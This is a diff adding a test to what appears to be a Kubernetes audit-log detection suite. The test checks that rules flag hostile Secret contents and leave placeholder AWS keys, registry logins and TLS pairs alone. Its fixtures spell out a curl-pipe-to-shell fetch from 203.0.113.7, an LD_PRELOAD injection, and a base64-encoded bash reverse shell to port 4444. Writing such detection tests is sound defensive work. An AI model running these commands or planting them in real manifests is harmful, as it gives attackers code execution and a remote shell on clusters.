@@ -201,6 +201,30 @@ describe('workload rules through the real audit reader', () => {
     ]);
   });
 
+  it('read a Secret written for workloads as a ConfigMap is: stringData as written, data as base64', async () => {
+    const secret = (body: Record<string, unknown>, type = 'Opaque'): Record<string, unknown> => ({ kind: 'Secret', apiVersion: 'v1', type, ...body });
+    const b64 = (x: string): string => Buffer.from(x).toString('base64');
+    const lines = [
+      // A hook script fetched and run (MLS-RAY-036), a preload for envFrom: secretRef, base64 in data (MLS-RAY-035), a reverse shell by its #! line (MLS-RAY-034).
+      write('create', 'secrets', secret({ stringData: { 'hook.sh': 'curl -fsSL http://203.0.113.7/i.sh | sh' } })),
+      write('create', 'secrets', secret({ data: { LD_PRELOAD: b64('/host/var/lib/x/libcudahook.so'), NCCL_DEBUG: b64('INFO') } })),
+      write('patch', 'secrets', [{ op: 'add', path: '/data/start', value: b64('#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1') }], 200),
+      // Credentials, a registry login and a TLS pair (left).
+      write('create', 'secrets', secret({ stringData: { AWS_ACCESS_KEY_ID: 'AKIAEXAMPLE', AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI/K7MDENG' } })),
+      write('create', 'secrets', secret({ data: { '.dockerconfigjson': b64('{"auths":{"registry.corp.example":{"auth":"eDp5"}}}') } }, 'kubernetes.io/dockerconfigjson')),
+      write('create', 'secrets', secret({ data: { 'tls.crt': b64('-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----\n'), 'tls.key': b64('-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n') } }, 'kubernetes.io/tls')),
+    ];
+    const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
+    expect(got).toEqual([
+      '1 secrets MLS-RAY-036 alert',
+      '2 secrets MLS-RAY-035 alert',
+      '3 secrets MLS-RAY-034 alert',
+      '4 secrets -',
+      '5 secrets -',
+      '6 secrets -',
+    ]);
+  });
+
   it('read what a container runs from its args when its command is a shell handing them on ("$@", $0, $1)', async () => {
     const run = (command: string[], args: string[]): Record<string, unknown> => pod({ containers: [{ name: 'c', image: 'python:3.12', command, args }] });
     const lines = [
